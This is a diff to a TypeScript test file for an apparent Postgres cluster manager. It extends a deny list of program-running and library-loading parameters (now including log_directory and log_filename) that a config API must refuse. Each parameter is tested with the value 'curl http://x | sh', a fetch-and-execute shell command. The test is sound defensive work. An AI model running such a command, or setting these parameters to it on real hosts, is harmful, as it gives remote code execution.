@@ -13,7 +13,7 @@ import { DynamicConfig, maxLagBytesInForce, pgParametersInForce, type DynamicCon
 import type { AgentMsg } from "../../src/agent/messages.ts";
 import { accessRowsInForce, setAccessRules, setClusterAccessRules } from "../../src/ops/access.ts";
 import { memoryLogger } from "../../src/log.ts";
-import { ConfigReloader } from "../../src/ops/reload.ts";
+import { ConfigReloader, runningConfig } from "../../src/ops/reload.ts";
 
 const settings = (over: Partial<DynamicSettings> = {}): DynamicSettings => ({
   durability: "quorum", postgres: { parameters: { work_mem: "4MB" } }, access: [], failover: { max_lag_bytes: 1048576 }, ...over,
@@ -23,7 +23,7 @@ const meta = { term: 2, at: "2026-12-01T01:00:00Z", by: "n2" };
 
 describe("decideChange", () => {
   test("a setting that runs a program or loads a library from a path is refused (an API token must not give a shell on every host: review); one a document holds already stays, and may be removed", () => {
-    for (const k of ["archive_command", "archive_cleanup_command", "restore_command", "recovery_end_command", "ssl_passphrase_command", "archive_library", "dynamic_library_path", "Archive_Cleanup_Command"]) {
+    for (const k of ["archive_command", "archive_cleanup_command", "restore_command", "recovery_end_command", "ssl_passphrase_command", "archive_library", "dynamic_library_path", "log_directory", "log_filename", "Archive_Cleanup_Command"]) {
       const r = D.decideChange(doc(1), { base: 1, set: { [`postgres.parameters.${k}`]: "curl http://x | sh" } }, meta);
       expect(r).toMatchObject({ ok: false, status: 400 });
       expect(!r.ok && r.error).toContain(`postgres.parameters.${k} runs a program`);
@@ -472,7 +472,7 @@ test("a conflict with pgherd.toml is gone once a SIGHUP reloaded the file withou
   const reloader = new ConfigReloader(cfg, { path, log, setLevel: () => {}, formatFromConfig: true, restartApi: async () => {} });
   try {
     const dyn = new DynamicConfig({
-      cfg, nodeId: "n1", log, send: () => true, connected: () => [], leadership: () => ({ term: 4, leading: false, voters: ["n1", "p1"] }), record: () => {}, nameOf: (i) => i,
+      cfg, cfgNow: () => runningConfig() ?? cfg, nodeId: "n1", log, send: () => true, connected: () => [], leadership: () => ({ term: 4, leading: false, voters: ["n1", "p1"] }), record: () => {}, nameOf: (i) => i,
       legacyDurability: () => undefined, applied: () => {}, now: () => 0, sleep: async () => {},
     });
     dyn.onDocument("p1", { version: 2, term: 1, at: "2026-12-01T00:00:00Z", by: "p1", settings: { durability: "quorum", postgres: { parameters: { work_mem: "64MB" } }, access: [], failover: { max_lag_bytes: 1048576 } } });
